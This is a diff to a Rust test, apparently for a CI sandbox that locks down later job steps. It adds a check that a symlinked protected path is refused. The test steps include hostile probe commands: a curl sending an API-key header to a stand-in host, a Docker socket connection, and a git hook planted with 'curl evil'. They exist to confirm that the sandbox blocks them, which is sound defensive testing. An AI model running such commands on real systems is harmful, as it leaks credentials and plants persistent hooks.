@@ -173,10 +173,11 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "sentinel:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" 'https://allowed.test/headers?reversed=1'",
         "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
         "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
-        "checkout:cd \"$GITHUB_WORKSPACE\" && mkdir -p .github/workflows .git/hooks && echo 'on: push' > .github/workflows/ci.yml && echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[core]' > .git/config",
+        "checkout:cd \"$GITHUB_WORKSPACE\" && mkdir -p .github/workflows .git/hooks && echo 'on: push' > .github/workflows/ci.yml && echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[core]' > .git/config && ln -s /usr/share .github/actions",
         "clone:git init -q /tmp/origin && cd /tmp/origin && echo hi > a.txt && git add a.txt && git -c user.email=ci@example.test -c user.name=ci commit -qm x && git clone -q /tmp/origin \"$GITHUB_WORKSPACE/app\"",
         "settle:sleep 3",
         "overwrite:cd \"$GITHUB_WORKSPACE\" && python3 -c \"open('app/a.txt', 'a').write('changed')\"",
+        "mounts:grep -c ' /usr/share ' /proc/self/mountinfo; true",
         "tamperwf:cd \"$GITHUB_WORKSPACE\" && echo 'on: pull_request_target' >> .github/workflows/ci.yml",
         "tamperhook:cd \"$GITHUB_WORKSPACE\" && printf '#!/bin/sh\\ncurl evil' > .git/hooks/post-checkout",
         "renamegh:cd \"$GITHUB_WORKSPACE\" && mv .github .github-old",
@@ -221,6 +222,16 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
     );
     // Protected paths: the checkout writes them freely, then they are held for the rest of the job.
     assert_eq!(job.step("checkout"), Some(0), "{}", out("checkout"));
+    assert_eq!(
+        out("mounts").trim(),
+        "0",
+        "a protected path that is a link to outside is not mounted: {}",
+        out("mounts")
+    );
+    let refused_link = job.events().any(|e| {
+        matches!(e, Event::PolicyViolation(v) if v.rule == "job.hold" && v.what.contains(".github/actions"))
+    });
+    assert!(refused_link, "the link is named as a path that could not be held");
     assert_ne!(job.step("tamperwf"), Some(0), "a workflow is read-only once held");
     assert!(out("tamperwf").contains("Read-only file system"), "{}", out("tamperwf"));
     assert_ne!(job.step("tamperhook"), Some(0), "git hooks are read-only once held: {}", out("tamperhook"));
